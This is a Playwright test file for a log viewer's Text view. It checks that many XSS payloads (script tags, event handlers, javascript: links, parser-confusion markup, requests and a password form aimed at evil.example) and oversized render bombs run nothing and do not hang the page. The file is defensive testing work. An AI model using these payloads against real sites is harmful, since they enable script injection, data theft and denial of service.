"""The Text view: no text, however it is made, does anything to the page or hangs it."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from glassboard.testing.logdir import LogdirBuilder

from .board import OpenLog

# Each would set `window.harmed`, open a dialog or send a request where the page let it.
HOSTILE = [
    "<script>window.harmed = 1; alert(1)</script>",
    "<img src=x onerror=\"window.harmed = 1; fetch('http://evil.example/')\">",
    "<img src=http://evil.example/pixel.png>",
    "![pixel](http://evil.example/pixel.png)",
    "![x](x\"onerror=\"window.harmed=1)",
    "<svg onload=window.harmed=1><script>window.harmed=1</script></svg>",
    "<svg><animate onbegin=window.harmed=1 attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>parent.harmed=1</script></svg>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1>",
    "<math href=\"javascript:window.harmed=1\">click</math>",
    "<iframe src=\"javascript:parent.harmed=1\"></iframe>",
    "<iframe srcdoc=\"<script>parent.harmed=1</script>\"></iframe>",
    "<object data=\"data:text/html,<script>parent.harmed=1</script>\"></object>",
    "<embed src=http://evil.example/>",
    "<a href=\"javascript:window.harmed=1\">click</a>",
    "[click](javascript:window.harmed=1)",
    "[click](JaVaScRiPt&colon;window.harmed=1)",
    "[click](data:text/html,<script>window.harmed=1</script>)",
    "[click](vbscript:msgbox)",
    "<javascript:window.harmed=1>",
    "<div onmouseover=window.harmed=1 style=\"position:fixed;inset:0\">all over the page</div>",
    "<style>@import 'http://evil.example/x.css'; * { background: url(http://evil.example/y) }</style>",
    "<link rel=stylesheet href=http://evil.example/z.css><base href=http://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    "<form action=http://evil.example/><input name=password autofocus onfocus=window.harmed=1><button>Send</button></form>",
    "<details open ontoggle=window.harmed=1><summary>more</summary>text</details>",
    "<video src=http://evil.example/v autoplay onloadstart=window.harmed=1></video><audio src=x onerror=window.harmed=1>",
    "<body onload=window.harmed=1><marquee onstart=window.harmed=1>moving</marquee>",
    "<input type=image src=x onerror=window.harmed=1><select autofocus onfocus=window.harmed=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.harmed=1>\"></noscript>",
    "<template><script>window.harmed=1</script></template>",
    "<x-y is=a onclick=window.harmed=1 id=app name=body class=page>named like a part of the page</x-y>",
    "`</code><script>window.harmed=1</script>`",
    "```\"><script>window.harmed=1</script>\n</pre><img src=x onerror=window.harmed=1>\n```",
    "| <img src=x onerror=window.harmed=1> | b |\n|---|---|\n| <script>window.harmed=1</script> | d |",
    "<p><b><i>never closed <table><tr><td><script>window.harmed=1",
    "\x00<scr\x00ipt>window.harmed=1</script> \u202e <\uff53cript>",
    "<svg/onload=window.harmed=1>",
    "<svg><foreignObject><iframe src=javascript:parent.harmed=1></iframe></foreignObject></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=window.harmed=1></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.harmed=1>",
    "<a href=\"java\tscript:window.harmed=1\">click</a>",
    "<a href=\"&#106;avascript:window.harmed=1\">click</a>",
    "<a href=\"blob:http://localhost/x\">click</a>",
    "<a href=\"file:///etc/passwd\">click</a>",
    "<a href=//evil.example/>click</a>",
    "[click]: javascript:window.harmed=1\n\n[click]",
    "![click](data:image/svg+xml,<svg/onload=parent.harmed=1>)",
    "<img srcset='http://evil.example/a 1x' src=x onload=window.harmed=1>",
    "<picture><source srcset=http://evil.example/b><img src=x></picture>",
    "<table background=http://evil.example/d><tr><td background=http://evil.example/e>x</td></tr></table>",
    "<p style=\"background:url(http://evil.example/f)\">styled</p>",
    "<link rel=preload as=image href=http://evil.example/g><link rel=dns-prefetch href=//evil.example>",
    "<button formaction=javascript:window.harmed=1>press</button><isindex action=javascript:window.harmed=1>",
    "<dialog open onclose=window.harmed=1>in the way</dialog><div popover id=pop>p</div>",
    "<div id=app class='view page modal formula block'>passes for a part of the page</div>",
    "<code class='language-python hljs-title' data-piece=0>x</code><p data-piece=0>y</p>",
    "<slot name=x onslotchange=window.harmed=1></slot><portal src=http://evil.example/i></portal>",
    "<![CDATA[<img src=x onerror=window.harmed=1>]]><!--><img src=x onerror=window.harmed=1>-->",
    "$\\href{javascript:window.harmed=1}{click}$ $\\url{javascript:window.harmed=1}$",
    "$\\includegraphics{http://evil.example/j.png}$ $\\htmlStyle{position:fixed}{x}$ $\\htmlClass{page}{y}$",
    "$\\def\\a{\\a\\a}\\a$ $<img src=x onerror=window.harmed=1>$ $\\text{<script>window.harmed=1</script>}$",
    "$\\rule{999em}{999em}$ $\\kern{-99em}\\raisebox{-99em}{moved far}$",
    "```html\n<script>window.harmed=1</script><img src=x onerror=window.harmed=1>\n```",
    "```javascript\nwindow.harmed = `</code><img src=x onerror=window.harmed=1>`\n```",
    "```python class=page onload=window.harmed=1\n'<svg onload=window.harmed=1>'\n```",
]  # fmt: skip


# Elements and attributes in the texts that no Markdown needs; what may be there is named, so that nothing is forgotten.
_FOREIGN = """
(texts) => {
  const tags = new Set(`a b blockquote br code del details dd div dl dt em h1 h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre s
    samp span strong sub summary sup table tbody td tfoot th thead tr u ul var`.split(/\\s+/));
  const attributes = new Set(["href", "title", "align", "colspan", "rowspan", "start", "open", "rel", "target",
    "tabindex"]);
  const foreign = [];
  for (const root of texts.querySelectorAll(".markdown")) {
    for (const element of root.querySelectorAll("*")) {
      // What the page itself made of formulas and of code: MathML without style or address, and spans of the highlighter.
      if (element.matches("span.formula, div.formula.block, .formula *, pre > code span")) {
        const inFormula = element.closest(".formula") !== null;
        const ours = inFormula
          ? element.classList.contains("formula") || element.namespaceURI.endsWith("MathML")
          : /^(hljs-[a-z_-]+( [a-z_]+_)*)?$/.test(element.className);
        const acts = [...element.attributes].some(({ name }) => /^(on|href|src|style|id|data|xlink)/.test(name));
        if (!ours || acts) foreign.push(element.outerHTML);
        continue;
      }
      if (!tags.has(element.localName)) foreign.push(element.outerHTML);
      for (const { name, value } of element.attributes) {
        if (!attributes.has(name) || (name === "href" && !/^(https?:|mailto:)/.test(value))) foreign.push(element.outerHTML);
      }
      if (element.localName === "a" && !/noopener/.test(element.rel)) foreign.push(element.outerHTML);
    }
  }
  return foreign;
}
"""


@pytest.fixture
def watched(page: Page) -> tuple[list[str], list[str]]:
    """Dialogs that opened and addresses that were asked for."""
    dialogs: list[str] = []
    asked: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: asked.append(request.url))
    return dialogs, asked


@pytest.mark.parametrize("context_options", [{}, {"bypass_csp": True}], ids=["policy", "no policy"])
def test_hostile_texts_do_nothing(
    tmp_path: Path,
    open_log: OpenLog,
    complaints: list[str],
    watched: tuple[list[str], list[str]],
    context_options: dict[str, bool],
) -> None:
    """Also in a browser that knows no content security policy, which is the second lock on the same door."""
    run = LogdirBuilder(tmp_path).run("<img src=x onerror=window.harmed=1>")
    for step, text in enumerate(HOSTILE):
        run.text("<script>window.harmed=1</script>", text, step=step)
    run.scalars("<b onmouseover=window.harmed=1>loss", [1.0])
    board = open_log(tmp_path).open(view="text")
    texts = board.page.get_by_role("list", name="Texts of")
    for count in range(20, len(HOSTILE), 20):
        expect(texts.locator(".markdown, .raw")).to_have_count(count)
        board.page.get_by_role("button", name=f", {len(HOSTILE) - count} left").click()
    expect(texts.locator(".markdown, .raw")).to_have_count(len(HOSTILE))
    # Formulas and code are laid out after the text around them.
    for laid_out in (".formula math", "pre code .hljs-string", "pre code .hljs-tag"):
        expect(texts.locator(laid_out).first).to_be_attached()
    assert texts.evaluate(_FOREIGN) == []
    # Words stay readable, and the page keeps its place above the text.
    covering = texts.locator("div").get_by_text("all over the page", exact=True).first
    assert covering.evaluate("(text) => getComputedStyle(text).position") == "static"
    covering.hover()
    # Nothing of a text reaches a place outside it, whatever it moves about.
    assert texts.locator(".markdown").evaluate_all(
        "(all) => all.every((one) => getComputedStyle(one).contain.includes('paint'))"
    )
    addresses = "(links) => links.map((link) => link.getAttribute('href') ?? 'https:')"
    for address in texts.locator(".markdown a").evaluate_all(addresses):
        assert address.startswith(("http:", "https:", "mailto:"))
    # As they were logged, in a search, and in the other places that show names.
    board.toolbar.get_by_role("button", name="Markdown").click()
    expect(texts.locator("pre.raw")).to_have_count(len(HOSTILE))
    assert texts.locator("pre.raw").all_text_contents() == HOSTILE[::-1]
    board.toolbar.get_by_role("searchbox", name="Find in texts").fill("onerror")
    expect(board.card("<script>window.harmed=1</script>")).to_contain_text(f"of {len(HOSTILE)} texts")
    board.view("Scalars").click()
    expect(board.chart("<b onmouseover=window.harmed=1>loss")).to_be_visible()
    board.hover("<b onmouseover=window.harmed=1>loss", 0)
    board.page.keyboard.press("Control+k")
    board.page.keyboard.type("onerror")
    expect(board.page.get_by_role("option", name="onerror=window.harmed").first).to_be_visible()
    dialogs, asked = watched
    assert dialogs == []
    assert board.page.evaluate("() => window.harmed") is None
    assert [url for url in asked if "evil" in url or url.endswith("/x")] == []
    if not context_options:
        # Chromium says so of every document it parses, also of the one without a window in which texts are cleaned.
        complaints[:] = [said for said in complaints if "Content Security Policy directive" not in said]


BOMBS = {
    "quotes": ">" * 5000 + " x",
    "tags": "<div>" * 3000 + "x",
    "lists": "\n".join(f"{'  ' * depth}- x" for depth in range(400)),
    "links": "[a](http://example.test/) " * 100_000,
    "formulas": "$x^2$ " * 50_000,
    "cells": f"|{'a|' * 90}\n|{'-|' * 90}\n" + f"|{'1|' * 90}\n" * 1100,
    "emphasis": "*a " * 50_000 + "_b **" * 20_000,
    "words": "line of a log\n" * 720_000,
    "one word": "a" * 10_000_000,
}


def test_texts_made_to_hang_the_page_are_shown_in_part(tmp_path: Path, open_log: OpenLog) -> None:
    run = LogdirBuilder(tmp_path).run("a")
    for tag, text in BOMBS.items():
        run.text(tag, text)
    board = open_log(tmp_path)
    board.page.add_init_script(
        "window.longest = 0; new PerformanceObserver((list) => {"
        " for (const task of list.getEntries()) window.longest = Math.max(window.longest, task.duration); })"
        ".observe({ entryTypes: ['longtask'] })"
    )
    board.open(view="text", v_texts="x")
    deep = "nested too deep to lay out, so it stands here as it was logged."
    for tag, text in BOMBS.items():
        # One at a time, as a person finds them.
        board.toolbar.get_by_role("searchbox", name="Filter tags").fill(f"/^{tag}/")
        card = board.card(tag)
        if tag in ("quotes", "tags"):
            expect(card).to_contain_text(deep)
            expect(card.locator("pre.raw")).to_have_text(text)
        elif tag == "lists":
            expect(card).to_contain_text("are hidden")
        else:
            expect(card).to_contain_text(
                f"of {len(text):,} characters are hidden: so long a text is laid out in part."
            )
        assert card.locator(".markdown *").count() <= 60_000
    # The whole of a long text can be had: shown on, or saved.
    card.get_by_role("button", name="Show it as it was logged").click()
    expect(card).to_contain_text("9,900,000 of 10,000,000 characters are hidden.")
    card.get_by_role("button", name="Show 100,000 more").click()
    expect(card).to_contain_text("9,800,000 of 10,000,000 characters are hidden.")
    board.becomes(lambda: len(card.locator("pre.raw").inner_text()), 200_000, "both parts are shown")
    card.get_by_role("button", name="Lay it out").click()
    expect(card.locator(".markdown")).to_be_visible()
    with board.page.expect_download() as download:
        card.get_by_role("button", name="Download").click()
    assert Path(download.value.path()).stat().st_size == 10_000_000
    # Far from a hang, also on a slow machine; parsing a bomb in the page itself takes a minute and more.
    assert board.page.evaluate("() => window.longest") < 10_000
